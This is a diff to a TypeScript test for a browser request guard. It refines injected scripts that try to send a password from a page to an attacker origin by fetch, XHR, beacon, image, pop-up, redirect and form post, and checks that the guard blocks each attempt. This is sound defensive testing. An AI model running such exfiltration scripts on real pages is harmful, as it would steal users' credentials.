@@ -1,4 +1,4 @@
-import { BrowserDriver } from "@sextant/core"
+import { type BlockedRequest, BrowserDriver } from "@sextant/core"
 import {
   type AttackerOrigin,
   type FixtureSite,
@@ -48,7 +48,8 @@ const leaks = (text: string): boolean =>
 const siteCounts = async (): Promise<Record<string, number>> =>
   (await (await fetch(`${site.url}/hostile/counts`)).json()) as Record<string, number>
 
-// Every way a page script can send what it read from a field; each request is awaited or given time.
+// Every way a page script can send what it read from a field but a form post (below); each request
+// the page can await is awaited.
 const exfiltrate = `
 const [to, site, secret] = arguments
 const settle = (promise) => promise.then(() => "sent", (error) => "failed: " + error.message)
@@ -73,7 +74,13 @@ answers.redirect = await settle(fetch(site + "/hostile/redirect-post?to=" + enco
 answers.allowed = await settle(fetch(site + "/hostile/keystroke", { method: "POST", body: secret }))
 answers.harmless = await settle(fetch(to + "/harmless", { mode: "no-cors" }))
 answers.popup = window.open(to + "/popup?p=" + encodeURIComponent(secret.replaceAll(" ", "-"))) === null ? "refused" : "opened"
-await new Promise((resolve) => setTimeout(resolve, 800))
+return JSON.stringify(answers)
+`
+
+// The last way, sent once the guard has seen the pop-up: a form post, which leaves the page (submitted
+// after the script has answered).
+const postForm = `
+const [to, secret] = arguments
 const form = document.createElement("form")
 form.method = "post"
 form.action = to + "/collect"
@@ -83,8 +90,39 @@ field.value = secret
 form.append(field)
 document.body.append(form)
 setTimeout(() => form.submit(), 0)
-return JSON.stringify(answers)
 `
+
+const described = (request: BlockedRequest): string =>
+  `${request.method} ${request.resourceType} ${request.carriedIn}`
+
+/**
+ * Reads the guard's `blocked` (which hands over what it blocked since the last read) until what was
+ * read holds every one of `expected`, or `deadline` (epoch ms) has passed: the beacon, the pop-up and
+ * the form post are sent by the browser after the script that asked for them has answered, each when
+ * the browser gets to it. Answers everything read.
+ */
+const blockedUntil = (
+  guard: { readonly blocked: Effect.Effect<ReadonlyArray<BlockedRequest>> },
+  expected: ReadonlyArray<string>,
+  deadline: number,
+) =>
+  Effect.gen(function* () {
+    const read: Array<BlockedRequest> = []
+    const missing = () => {
+      const seen = read.map(described)
+      return expected.filter((one) => {
+        const at = seen.indexOf(one)
+        if (at === -1) return true
+        seen.splice(at, 1)
+        return false
+      })
+    }
+    while (missing().length > 0 && Date.now() < deadline) {
+      read.push(...(yield* guard.blocked))
+      if (missing().length > 0) yield* Effect.sleep("20 millis")
+    }
+    return read
+  })
 
 describe("the request guard stops every request that carries a secret to another origin", () => {
   it("blocks fetch, XHR, beacon, image, pop-up, form post and a redirect's hop, and lets only the allowed origin through", async () => {
@@ -104,8 +142,18 @@ describe("the request guard stops every request that carries a secret to another
           const answers = JSON.parse(
             String(yield* driver.evaluate(exfiltrate, [attacker.url, site.url, PASSWORD])),
           ) as Record<string, unknown>
-          yield* Effect.sleep("1500 millis")
-          const blocked = yield* armed.guard.blocked
+          // However slow the machine, both waits together end within 30 s, well inside the test's limit.
+          const deadline = Date.now() + 30_000
+          // Chromium reports a fetch() as XHR. The beacon, the image, the redirected fetch's second
+          // hop and the pop-up, each once; then the form post, sent once they are all in.
+          const beforeForm = yield* blockedUntil(
+            armed.guard,
+            ["POST Ping body", "GET Image url", "POST XHR body", "GET Document url"],
+            deadline,
+          )
+          yield* driver.evaluate(postForm, [attacker.url, PASSWORD])
+          const afterForm = yield* blockedUntil(armed.guard, ["POST Document body"], deadline)
+          const blocked = [...beforeForm, ...afterForm, ...(yield* armed.guard.blocked)]
           for (const tab of yield* driver.tabs) if (!tab.active) yield* driver.closeTab(tab.handle)
           return { answers, blocked }
         }),
@@ -123,12 +171,11 @@ describe("the request guard stops every request that carries a secret to another
     expect(answers.allowed).toBe("sent")
     // Blocked too (strict), but not reported: it carried no secret.
     expect(answers.harmless).toMatch(/^failed/)
-    const seen = blocked.map((request) => `${request.method} ${request.resourceType} ${request.carriedIn}`)
-    // Chromium reports a fetch() as XHR. The beacon, the image, the redirected fetch's second hop, the
-    // pop-up and the form post, each once. The header fetch and the JSON XHR need a CORS preflight,
-    // which carries no secret and is blocked (strict) and not reported, so they never send themselves.
-    // Compared as a sorted list: the beacon and the image are sent at once, and which of the two the
-    // browser-wide interception sees first is up to the browser.
+    const seen = blocked.map(described)
+    // Each once, nothing else: the header fetch and the JSON XHR need a CORS preflight, which carries
+    // no secret and is blocked (strict) and not reported, so they never send themselves. Compared as a
+    // sorted list: the beacon and the image are sent at once, and which of the two the browser-wide
+    // interception sees first is up to the browser.
     expect([...seen].sort()).toEqual(
       ["POST Ping body", "GET Image url", "POST XHR body", "GET Document url", "POST Document body"].sort(),
     )
